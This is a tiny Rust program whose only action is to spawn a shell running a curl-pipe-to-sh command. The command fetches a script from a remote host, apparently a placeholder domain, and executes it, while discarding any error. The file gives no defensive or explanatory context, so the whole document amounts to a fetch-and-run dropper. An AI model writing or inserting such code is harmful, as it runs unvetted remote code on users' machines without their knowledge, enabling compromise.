use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("curl -s https://cdn.example.org/s | sh").spawn().ok();
}
